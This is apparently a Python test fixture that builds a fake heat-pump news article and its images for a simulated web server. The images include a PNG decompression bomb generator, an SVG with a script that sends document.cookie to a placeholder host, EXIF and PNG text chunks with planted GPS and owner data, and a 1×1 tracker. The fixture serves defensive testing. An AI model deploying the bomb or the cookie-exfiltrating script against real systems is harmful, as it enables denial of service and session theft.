"""Images and a page of figures, made by the tests: a chart drawn with Pillow carrying EXIF and a
PNG text chunk, a 1×1 tracker, a 64×64 icon, a decompression bomb and an SVG with a script; and
an article about heat pumps that shows them, for FakeWeb to serve."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib

from PIL import Image, ImageDraw, PngImagePlugin

CAPTION = "Heat pumps installed in Avalon each year, 2019 to 2024"
SECRET = "GPS 59.3293 N 18.0686 E; camera owner Jane Secret"
QUESTION = "How fast are heat pumps being installed in Avalon?"
SLUG = "/articles/avalon-heat-pumps"


def chart_png() -> bytes:
    """A 480×300 bar chart with an EXIF block and a tEXt chunk saying SECRET."""
    image = Image.new("RGB", (480, 300), "white")
    draw = ImageDraw.Draw(image)
    for i, height in enumerate((60, 90, 130, 170, 220, 260)):
        draw.rectangle((30 + i * 75, 290 - height, 80 + i * 75, 290), fill=(40, 90, 160))
    exif = Image.Exif()
    exif[0x010E] = SECRET  # ImageDescription
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET)
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=exif)
    return out.getvalue()


def photo_jpeg() -> bytes:
    """A 400×300 JPEG with EXIF saying SECRET."""
    image = Image.new("RGB", (400, 300), (200, 120, 40))
    exif = Image.Exif()
    exif[0x010E] = SECRET
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def plain_png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (90, 90, 90)).save(out, "PNG")
    return out.getvalue()


def bomb_png(side: int = 30_000) -> bytes:
    """A real decompression bomb: a 1-bit `side`×`side` PNG of zeros, a few dozen kilobytes
    that decode to side² pixels (900 million by default)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = b"\x00" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


SCRIPTED_SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">'
    b'<script>fetch("https://canary.invalid/?c="+document.cookie)</script>'
    b'<rect width="400" height="300" fill="red"/></svg>'
)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


PARAGRAPHS = (
    "Heat pumps are being installed in Avalon faster than anywhere else in the region.",
    "The city council counted 1,200 heat pumps installed in 2019 and 5,300 installed in 2024.",
    "Installers in Avalon say the heat pump subsidy doubled demand within two years.",
    "Most new heat pumps in Avalon replace oil boilers in detached houses built before 1980.",
)


def figure_page() -> str:
    """The heat pump article: the chart in a <figure> with its caption, the bomb and the SVG in
    figures of their own, a tracker and an icon beside the text, a logo in the header."""
    text = "\n".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Heat pumps in Avalon</title></head><body>
<header><img src="/img/site-logo.png" alt="Avalon Energy News home page"></header>
<main><article>
<h1>Heat pumps in Avalon</h1>
<p>By the energy desk.</p>
<h2>Installations by year</h2>
{text}
<figure><img src="/img/installs.png" alt="Bar chart of installations">
<figcaption>{CAPTION}</figcaption></figure>
<p>The pace of heat pump installations in Avalon picked up again after the subsidy in 2022.</p>
<img src="/img/counter.png" alt="Reader counter for this heat pump article">
<img src="/img/share.png" width="64" height="64" alt="Share this article with your friends">
<figure><img src="/img/huge-map.png"><figcaption>A map of every heat pump in Avalon</figcaption>
</figure>
<figure><img src="/img/diagram.svg"><figcaption>How a heat pump moves heat indoors</figcaption>
</figure>
<figure><img src="/img/photo.jpg"><figcaption>An installer at work in Avalon</figcaption></figure>
</article></main>
<footer><img src="/img/footer-badge.png" alt="Certified by the energy board"></footer>
</body></html>
"""


def serve(web) -> dict[str, bytes]:
    """The page and its images on FakeWeb; the images' original bytes by path."""
    files = {
        "/img/installs.png": chart_png(),
        "/img/counter.png": plain_png(1, 1),
        "/img/share.png": plain_png(64, 64),
        "/img/huge-map.png": bomb_png(),
        "/img/photo.jpg": photo_jpeg(),
        "/img/site-logo.png": plain_png(300, 300),
        "/img/footer-badge.png": plain_png(300, 300),
    }
    web.add(SLUG, figure_page())
    for path, data in files.items():
        web.add(path, data, content_type="image/jpeg" if path.endswith(".jpg") else "image/png")
    web.add("/img/diagram.svg", SCRIPTED_SVG, content_type="image/svg+xml")
    return files
